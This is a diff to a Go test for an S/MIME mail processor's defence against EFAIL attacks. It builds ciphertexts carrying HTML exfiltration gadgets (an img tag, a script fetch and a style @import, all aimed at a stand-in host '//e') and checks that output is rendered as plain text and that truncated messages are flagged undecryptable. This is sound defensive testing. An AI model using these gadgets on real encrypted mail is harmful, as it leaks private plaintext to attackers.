@@ -60,7 +60,7 @@ func (h *house) plaintext(der []byte) string {
 // unauthenticated = "text" nothing of it is HTML or would fetch anything.
 func TestEFAILGadgets(t *testing.T) {
 	h := newHouse(t, func(o *Options) { o.On = Actions{"unauthenticated": Text} })
-	v := h.victim(htmlVictim)
+	victim := func() *efail.Sealed { return h.victim(htmlVictim) } // each is seen for the first time
 	must := func(der []byte, err error) []byte {
 		t.Helper()
 		if err != nil {
@@ -72,11 +72,11 @@ func TestEFAILGadgets(t *testing.T) {
 		der  []byte
 		want string // in the plaintext: the gadget works
 	}{
-		"image in the middle":   {must(v.Insert(3, "<img src=\"//e.e/", "?a=", "\">")), "<img src=\"//e.e/"},
-		"text into a URL":       {must(v.Insert(2, "<img alt='", "' src='//e.e/?")), "src='//e.e/?"},
-		"script":                {must(v.Insert(3, "<script>/*", "*/fetch('//e'+'", "')</script>")), "*/fetch('//e'+'"},
-		"style":                 {must(v.Insert(3, "<style>/*", "*/@import'//e';", "</style>")), "*/@import'//e';"},
-		"in front of the whole": {must(v.Prefix("Content-Type: te", "xt/html ;x=\"")), ""}, // rubbish in the header: mostly stopped there
+		"image in the middle":   {must(victim().Insert(3, "<img src=\"//e.e/", "?a=", "\">")), "<img src=\"//e.e/"},
+		"text into a URL":       {must(victim().Insert(2, "<img alt='", "' src='//e.e/?")), "src='//e.e/?"},
+		"script":                {must(victim().Insert(3, "<script>/*", "*/fetch('//e'+'", "')</script>")), "*/fetch('//e'+'"},
+		"style":                 {must(victim().Insert(3, "<style>/*", "*/@import'//e';", "</style>")), "*/@import'//e';"},
+		"in front of the whole": {must(victim().Prefix("Content-Type: te", "xt/html ;x=\"")), ""}, // rubbish in the header: mostly stopped there
 	} {
 		if got := h.plaintext(k.der); !strings.Contains(got, k.want) {
 			t.Errorf("%s: the gadget does not work: %q", name, got)
@@ -88,7 +88,7 @@ func TestEFAILGadgets(t *testing.T) {
 		h.fetchesNothing(name, out.text[0])
 	}
 	for n := 1; n < 6; n++ {
-		der := must(v.Cut(n))
+		der := must(victim().Cut(n))
 		out := h.process(toSupport, crlfLines(strings.ReplaceAll(fromAnna, "\r\n", "\n")+efail.Entity(der)))
 		if got := h.header(out.text[0], "X-SMIME-Encryption"); got != "undecryptable" {
 			t.Errorf("%d blocks cut off: %s\n%s", n, got, out.text[0])
